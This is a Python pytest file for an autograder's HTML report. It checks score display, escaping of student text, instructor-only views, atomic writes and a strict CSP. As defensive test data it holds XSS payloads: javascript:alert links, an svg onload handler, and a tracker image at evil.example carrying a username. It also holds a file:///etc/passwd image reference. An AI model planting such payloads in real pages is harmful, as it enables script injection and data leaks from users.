"""The HTML report: content, escaping of student text, no instructor detail, atomic writes."""

from __future__ import annotations

import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from report_helpers import HOSTILE, LOSS_CURVE, SECRET

from grader.report import html as html_module
from grader.report import render_html, write_html_report
from grader.report.html import format_duration, format_points
from grader.results.models import ItemStatus, Outcome, SubmissionResult


class _Tags(HTMLParser):
    """Collects every start tag with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


@pytest.fixture(params=["graded", "not_gradable", "grader_error", "hostile"])
def any_result(request: pytest.FixtureRequest) -> SubmissionResult:
    return request.getfixturevalue(request.param)


def test_header_score_and_metadata(graded: SubmissionResult) -> None:
    page = render_html(graded)
    assert "7.5 / 12" in page
    assert "HW3: Convolutions from scratch" in page
    assert "alice_smith_hw3.zip" in page
    assert graded.sha256[:12] in page
    assert "2025-03-14 15:09:26 UTC" in page
    assert "1 min 23 s" in page
    assert "bwrap" in page
    assert "Includes 1 extra-credit point." in page
    assert "2 points are still to be graded by a TA." in page


def test_summary_and_sections_for_every_item(graded: SubmissionResult) -> None:
    page = render_html(graded)
    for n, item in enumerate(graded.items, start=1):
        assert f'href="#item-{n}"' in page and f'id="item-{n}"' in page
        assert item.title in page
    for label in ("Passed", "Partial", "Failed", "Error", "TA grading"):
        assert label in page  # a word beside every colour


def test_lost_points_say_why(graded: SubmissionResult) -> None:
    page = render_html(graded)
    assert "Lost 0.5 points: weight gradient is close but not equal to the reference" in page
    assert "Lost 2 points: FasterConv2d took 41 ms" in page
    assert "Lost 1 point: The worker was killed after 60 s" in page


def test_manual_item_is_for_the_ta(graded: SubmissionResult) -> None:
    assert "To be graded by a TA" in render_html(graded)


def test_note_output_and_artifact(graded: SubmissionResult) -> None:
    page = render_html(graded)
    assert '<blockquote class="note">Gradients w.r.t. input and weight' in page
    assert "<summary>Captured output (2 lines)</summary>" in page
    assert "<summary>Captured output (3 lines)</summary>" in page
    images = [attrs for tag, attrs in _tags(page) if tag == "img"]
    assert images == [{"src": LOSS_CURVE, "alt": "Training loss per epoch", "loading": "lazy"}]


def test_outcome_banners(not_gradable: SubmissionResult, grader_error: SubmissionResult) -> None:
    page = render_html(not_gradable)
    assert "Not gradable" in page and "not a zip archive (bad magic number)" in page
    page = render_html(grader_error)
    assert "Grader error" in page and "KeyError in the benchmark check" in page
    assert "not final" in page
    assert "rlimit backend: no network or filesystem isolation" in page  # sandbox warnings
    regraded = grader_error.model_copy(update={"outcome": Outcome.GRADED})
    assert "Grader error" not in render_html(regraded)


def test_student_text_is_escaped(hostile: SubmissionResult) -> None:
    page = render_html(hostile)
    tags = _tags(page)
    assert not [t for t, _ in tags if t == "script"], "a <script> from student text became a tag"
    assert "&lt;script&gt;alert(" in page
    handlers = [(t, k) for t, attrs in tags for k in attrs if k.startswith("on")]
    assert handlers == [], f"event handler attributes leaked: {handlers}"
    sources = [attrs.get("src") or attrs.get("href") for t, attrs in tags if t in ("img", "a")]
    assert all(s and not s.startswith(("javascript:", "/", "..")) for s in sources), sources
    assert "javascript:alert" not in "".join(str(s) for s in sources)


def test_autoescape_is_on_for_the_template() -> None:
    env = html_module._environment()
    assert env.autoescape is True
    template = env.from_string("{{ value }}")
    assert template.render(value="<b>") == "&lt;b&gt;"


def test_instructor_detail_only_in_instructor_view(any_result: SubmissionResult) -> None:
    assert SECRET not in render_html(any_result)
    assert "Instructor only" not in render_html(any_result)
    staff = render_html(any_result, instructor=True)
    assert SECRET in staff and "Instructor view" in staff


def test_page_is_self_contained(any_result: SubmissionResult) -> None:
    page = render_html(any_result)
    tags = {t for t, _ in _tags(page)}
    assert not tags & {"script", "link", "iframe", "object", "embed"}
    for remote in ("http://", "https://", "@import", "url("):
        assert remote not in page
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page


def test_write_html_report(graded: SubmissionResult, tmp_path: Path) -> None:
    path = write_html_report(graded, tmp_path / "out")
    assert path == tmp_path / "out" / "report.html"
    assert path.read_text(encoding="utf-8") == render_html(graded)
    assert path.stat().st_mode & 0o777 == 0o644
    staff = write_html_report(graded, tmp_path / "out", instructor=True)
    assert staff.name == "report-instructor.html" and SECRET in staff.read_text(encoding="utf-8")
    assert sorted(os.listdir(tmp_path / "out")) == ["report-instructor.html", "report.html"]


def test_write_html_report_is_atomic(graded: SubmissionResult, tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "report.html").write_text("old report", encoding="utf-8")

    def crash(src: str, dst: str) -> None:
        raise OSError("disk vanished")

    monkeypatch.setattr("grader._io.os.replace", crash)
    with pytest.raises(OSError, match="disk vanished"):
        write_html_report(graded, tmp_path)
    assert (tmp_path / "report.html").read_text(encoding="utf-8") == "old report"
    assert os.listdir(tmp_path) == ["report.html"]


@pytest.mark.parametrize(
    ("value", "text"), [(7.5, "7.5"), (10.0, "10"), (1 / 3, "0.33"), (0.1 + 0.2, "0.3"), (0, "0")]
)
def test_format_points(value: float, text: str) -> None:
    assert format_points(value) == text


@pytest.mark.parametrize(
    ("seconds", "text"), [(4.24, "4.2 s"), (83.4, "1 min 23 s"), (7322, "2 h 02 min")]
)
def test_format_duration(seconds: float, text: str) -> None:
    assert format_duration(seconds) == text


def test_hostile_constant_is_really_hostile() -> None:
    assert "<script>" in HOSTILE and "onerror=" in HOSTILE


# -- the "Why:" line gives the actual reason; the page loads nothing ------------------------


def _why(page: str) -> list[str]:
    return [m.strip() for m in re.findall(r'<p class="lost"><strong>Why:</strong>(.*?)</p>', page, re.S)]


def test_why_names_the_rule_and_all_or_nothing(make_item, make_result) -> None:
    items = (
        make_item(id="rules", title="mlp.py follows the rules", points=0, max_points=2, status=ItemStatus.FAILED,
                  messages=("mlp.py follows the rules: no torch.autograd.",
                            "No points yet: these rules count once the code they apply to earns points "
                            "(items backprop.forward earned none).")),
        make_item(id="broken", title="No autograd", points=0, max_points=2, status=ItemStatus.FAILED,
                  messages=("mlp.py breaks the rules (no torch.autograd):", "mlp.py:12 torch.autograd.grad(...)")),
        make_item(id="aon", title="Backward", points=0, max_points=4, status=ItemStatus.FAILED,
                  messages=("1 of 4 tests passed.", "test_relu: dJdW1 off by 6.22",
                            "This item is all-or-nothing: every one of its tests must pass.")),
        make_item(id="per", title="Per test", points=3, max_points=4, status=ItemStatus.PARTIAL,
                  messages=("3 of 4 tests passed.", "test_bce: NaN at saturation")),
        make_item(id="plain", title="Plain", points=0, max_points=1, status=ItemStatus.FAILED,
                  messages=("The worker was killed after 60 s.",)),
    )
    why = _why(render_html(make_result(items=items)))
    assert why[0].startswith("Lost 2 points: No points yet: these rules count") and "follows the rules" not in why[0]
    assert why[1] == "Lost 2 points: mlp.py breaks the rules (no torch.autograd): mlp.py:12 torch.autograd.grad(...)"
    assert why[2] == "Lost 4 points: all-or-nothing: 1 of 4 tests passed; test_relu: dJdW1 off by 6.22"
    assert why[3] == "Lost 1 point: 3 of 4 tests passed; test_bce: NaN at saturation"
    assert why[4] == "Lost 1 point: The worker was killed after 60 s."


def test_the_report_has_the_strict_csp(graded: SubmissionResult) -> None:
    page = render_html(graded)
    assert ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
            "style-src 'unsafe-inline'\">") in page


def test_written_report_inlines_the_graders_images(graded: SubmissionResult, report_dir: Path) -> None:
    """Under the CSP only data: images show, so write_html_report inlines the artifacts it finds."""
    page = write_html_report(graded, report_dir).read_text()
    images = [attrs["src"] for tag, attrs in _tags(page) if tag == "img"]
    assert len(images) == 1 and images[0].startswith("data:image/png;base64,")
    (report_dir / LOSS_CURVE).write_bytes(b"<svg onload=alert(1)>")  # not an image by its bytes: a link stays
    page = write_html_report(graded, report_dir).read_text()
    assert [attrs["src"] for tag, attrs in _tags(page) if tag == "img"] == [LOSS_CURVE]


def test_notebook_markdown_images_other_than_data_are_dropped(make_item, make_result) -> None:
    from grader.results.models import NotebookCellResult, NotebookRecord

    pixel = "data:image/png;base64,iVBORw0KGgo="
    markdown = (f"![tracker](https://evil.example/t.png?u=alice) ![local](file:///etc/passwd) "
                f"![ok]({pixel}) ![js](javascript:alert(1))")
    record = NotebookRecord(name="hw.ipynb", cells=(NotebookCellResult(index=0, kind="markdown", source=markdown),))
    page = render_html(make_result(items=(make_item(),), notebook=record))
    sources = [attrs.get("src", "") for tag, attrs in _tags(page) if tag == "img"]
    assert pixel in sources
    assert not [s for s in sources if not s.startswith("data:")]
    assert "evil.example" not in page.replace("[image not shown: tracker", "")  # the alt text stays, not the URL
    assert page.count("[image not shown: tracker") == 1  # markdown-it itself leaves file: and javascript: as text
